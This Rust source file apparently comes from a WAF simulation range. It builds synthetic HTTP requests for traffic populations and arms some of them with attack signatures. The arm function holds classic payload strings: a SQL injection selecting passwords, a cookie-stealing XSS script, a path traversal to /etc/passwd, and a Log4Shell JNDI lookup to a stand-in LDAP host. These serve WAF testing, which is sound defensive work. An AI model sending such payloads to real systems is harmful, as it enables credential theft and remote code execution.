//! A request as the WAF and the application see it, and the kinds of request that populations send.

use std::sync::Arc;

use crate::scenario::{Kind, Population, RequestMix, Route, Signature, SignatureIn};
use crate::state::SampledRequest;
use crate::state::ids;

use super::chance::Chance;

/// What can be inspected of a request. Its text may be an attacker's.
#[derive(Debug, Clone, Default)]
pub(crate) struct Request {
    /// HTTP method.
    pub(crate) method: String,
    /// Path with the stage: `/prod/login`.
    pub(crate) path: String,
    /// Query string without `?`.
    pub(crate) query: String,
    /// Header names and values, in order.
    pub(crate) headers: Vec<(String, String)>,
    /// The body, as far as WAF could ever look.
    pub(crate) body: Vec<u8>,
    /// Length of the whole body in bytes.
    pub(crate) body_len: usize,
    /// Carries a valid CAPTCHA or challenge token (the range takes it that real callers' browsers get one).
    pub(crate) token: bool,
}

impl Request {
    /// The value of a header.
    pub(crate) fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(known, _)| known.eq_ignore_ascii_case(name)).map(|(_, value)| value.as_str())
    }

    /// The same, as WAF's samples show it. `URI` is the path (documented: "the URI path of the request").
    pub(crate) fn sampled(&self) -> Arc<SampledRequest> {
        Arc::new(SampledRequest {
            method: self.method.clone(),
            uri: self.path.clone(),
            http_version: "HTTP/1.1".to_owned(),
            headers: self.headers.clone(),
        })
    }
}

/// One kind of request of a population.
#[derive(Debug)]
pub(crate) struct Shape {
    /// What it looks like.
    pub(crate) request: Request,
    /// For samples.
    pub(crate) sampled: Arc<SampledRequest>,
    /// Method and resource.
    pub(crate) route: Route,
    /// Share among the population's requests.
    pub(crate) share: f64,
    /// Repeats nothing that a cache could hold.
    pub(crate) unique: bool,
}

/// The shapes of a population: every path, query and user agent that it names appears in at least one.
pub(crate) fn shapes(population: &Population, host: &str, seed: u64) -> Vec<Shape> {
    let total: f64 = population.requests.iter().map(|mix| mix.share).sum();
    let mut chance = Chance::keyed(seed, ids::hash(population.name.get_ref()), -1);
    population.requests.iter().flat_map(|mix| variants(population, mix, host, mix.share / total, &mut chance)).collect()
}

fn variants(population: &Population, mix: &RequestMix, host: &str, share: f64, chance: &mut Chance) -> Vec<Shape> {
    let route = mix.route.get_ref();
    let agents = if mix.user_agents.is_empty() { &population.user_agents } else { &mix.user_agents };
    let own_path = [route.path.clone()];
    let uris: &[String] = if mix.uris.is_empty() { &own_path } else { &mix.uris };
    let count = uris.len().max(mix.queries.len()).max(agents.len()).max(1);
    let signature = mix.signature.or(population.signature);
    (0..count)
        .map(|at| {
            let path = uris[at % uris.len()].replace("{id}", &(1000 + chance.index(9000)).to_string());
            let mut request = Request {
                method: route.method.clone(),
                path: format!("/{}{path}", population.stage.get_ref().stage),
                query: mix.queries.get(at % mix.queries.len().max(1)).cloned().unwrap_or_default(),
                headers: vec![("Host".to_owned(), population.host.clone().unwrap_or_else(|| host.to_owned()))],
                token: population.kind == Kind::Legitimate,
                ..Request::default()
            };
            if let Some(agent) = agents.get(at % agents.len().max(1)) {
                request.headers.push(("User-Agent".to_owned(), agent.clone()));
            }
            if route.method != "GET" {
                request.headers.push(("Content-Type".to_owned(), "application/json".to_owned()));
                request.body = br#"{"ok":true}"#.to_vec();
            }
            if let Some(signature) = signature {
                arm(&mut request, signature, mix.signature_in);
            }
            request.body_len = request.body_len.max(request.body.len());
            Shape {
                sampled: request.sampled(),
                request,
                route: route.clone(),
                share: share / count as f64,
                // Who had privileges once asks for what others ask for.
                unique: signature.is_some() || (population.kind == Kind::Botnet && population.revoked.is_none()),
            }
        })
        .collect()
}

/// Puts a signature's typical text where it belongs.
fn arm(request: &mut Request, signature: Signature, place: Option<SignatureIn>) {
    let text = match signature {
        Signature::Sqli => "' OR 1=1 UNION SELECT username, password FROM users -- ",
        Signature::Xss => "<script>alert(document.cookie)</script>",
        Signature::Lfi => "../../../../etc/passwd",
        Signature::Log4j => "${jndi:ldap://198.51.100.66/a}",
        Signature::LargeBody => {
            request.body_len = 16 * 1024;
            return;
        }
    };
    let by_method = if request.method == "GET" { SignatureIn::Query } else { SignatureIn::Body };
    match place.unwrap_or(by_method) {
        SignatureIn::Body => request.body = format!(r#"{{"username":"admin{text}"}}"#).into_bytes(),
        SignatureIn::Query if request.query.is_empty() => request.query = format!("q=1{text}"),
        SignatureIn::Query => request.query = format!("{}&q=1{text}", request.query),
        SignatureIn::Path => request.path.push_str(text),
    }
}
